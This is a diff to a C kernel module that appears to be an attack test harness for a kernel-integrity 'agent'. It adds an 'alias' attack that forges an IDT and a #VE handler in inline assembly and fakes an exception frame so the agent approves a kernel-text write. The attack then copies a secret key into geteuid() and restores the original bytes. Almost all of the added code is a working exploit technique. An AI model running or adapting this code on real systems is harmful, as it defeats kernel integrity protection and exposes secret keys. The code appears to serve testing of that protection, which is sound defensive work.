@@ -222,6 +222,104 @@ static int attack_lidt(void)
     return *text == before ? -EPERM : 0;
 }
 
+/*
+ * The agent asked for a patch that the kernel never made: of a #VE that is real, a write of the kernel's
+ * text, the handler is one of ours, and it goes on to the agent's with a frame and registers that it
+ * made up: REP MOVSB of memcpy(), called by the patching function, its source as one likes.
+ */
+struct made_up {
+    struct desc_ptr idt; /* the kernel's */
+    u8 pad[6];
+    u64 gate, rip, stack, to, from, count;
+} __packed;
+extern struct made_up made_up;
+extern char made_up_handler[];
+asm(".pushsection .text\n"
+    "made_up_handler:\n"
+    "    lidt made_up(%rip)\n"
+    "    movq made_up+24(%rip), %rax\n"
+    "    movq %rax, (%rsp)\n"
+    "    movq made_up+32(%rip), %rax\n"
+    "    movq %rax, 24(%rsp)\n"
+    "    movq made_up+40(%rip), %rdi\n"
+    "    movq made_up+48(%rip), %rsi\n"
+    "    movq made_up+56(%rip), %rcx\n"
+    "    movq %rdi, %rax\n"
+    "    jmpq *made_up+16(%rip)\n"
+    ".popsection\n"
+    ".pushsection .data\n"
+    ".balign 8\n"
+    "made_up: .skip 64\n"
+    ".popsection\n");
+
+/* Any 0xc3 in a function is a RET. */
+static unsigned long find_ret(const char *name)
+{
+    int (*size_of)(unsigned long, unsigned long *, unsigned long *) =
+        (void *)lookup("kallsyms_lookup_size_offset");
+    unsigned long at = lookup(name), size, offset;
+
+    if (!at || !size_of || !size_of(at, &size, &offset))
+        return 0;
+    return (unsigned long)memchr((const void *)at, 0xc3, size);
+}
+
+/* Writes to `to`; where the agent believes it, `from` is copied there. Interrupts are off. */
+static void ask_for_patch(void *to, const void *from, gate_desc *idt, unsigned long cr3)
+{
+    u64 stack[2] = {find_ret("__text_poke"), 0};
+    struct desc_ptr own = {.size = PAGE_SIZE - 1, .address = (unsigned long)idt};
+    unsigned long before = __read_cr3();
+
+    asm volatile("sidt %0" : "=m"(made_up.idt));
+    memcpy(idt, (void *)made_up.idt.address, PAGE_SIZE);
+    pack_gate(&idt[X86_TRAP_VE], GATE_INTERRUPT, (unsigned long)made_up_handler, 0, 0, __KERNEL_CS);
+    made_up.gate = lookup("gate_ve_entry");
+    made_up.rip = lookup("memcpy_erms") + 6;
+    made_up.stack = (u64)stack;
+    made_up.to = (u64)to;
+    made_up.from = (u64)from;
+    made_up.count = 16;
+    native_write_cr3(cr3);
+    asm volatile("lidt %[own]\n\tmovq %%rsp, %%rbx\n\tleaq 1f(%%rip), %%rax\n\t"
+                 "movq %%rax, 8(%[stack])\n\tmovb %%al, (%[to])\n1:\tmovq %%rbx, %%rsp\n\t"
+                 "lidt made_up(%%rip)"
+                 :
+                 : [own] "m"(own), [stack] "r"(stack), [to] "r"(to)
+                 : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
+    native_write_cr3(before);
+}
+
+static void *map_page(const void *at)
+{
+    struct page *page = pfn_to_page(alias_pfn(at));
+    char *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+
+    return map ? map + offset_in_page(at) : NULL;
+}
+
+/* The key into the kernel's text, where everybody may read it, by a mapping that is not the agent's. */
+static int attack_alias(void)
+{
+    u8 *text = (u8 *)lookup("__x64_sys_geteuid"), before[16], seen[16];
+    struct mm_struct **mm = (struct mm_struct **)lookup("poking_mm");
+    gate_desc *idt = (gate_desc *)get_zeroed_page(GFP_KERNEL);
+    void *key = map_page((void *)lookup("keeper_key")), *to = map_page(text);
+    unsigned long cr3, flags;
+
+    if (!key || !to || !idt || !mm || !*mm || !find_ret("__text_poke"))
+        return -ENOMEM;
+    cr3 = __pa((*mm)->pgd) | (__read_cr3() & ~PAGE_MASK);
+    memcpy(before, text, sizeof(before));
+    local_irq_save(flags);
+    ask_for_patch(to, key, idt, cr3);
+    memcpy(seen, text, sizeof(seen));
+    ask_for_patch(to, before, idt, cr3);
+    local_irq_restore(flags);
+    pr_alert("alias: the key was copied to geteuid(): %16phN\n", seen);
+    return 0;
+}
+
 static const struct {
     const char *name;
     int (*run)(void);
@@ -229,6 +327,7 @@ static const struct {
     {"table", attack_table},   {"text", attack_text}, {"idt", attack_idt},
     {"key", attack_key},       {"gate", attack_gate}, {"report", attack_report},
     {"vmfunc", attack_vmfunc}, {"hypercall", attack_hypercall}, {"lidt", attack_lidt},
+    {"alias", attack_alias},
 };
 
 static ssize_t run_store(struct kobject *kobj, struct kobj_attribute *attr, const char *buf,
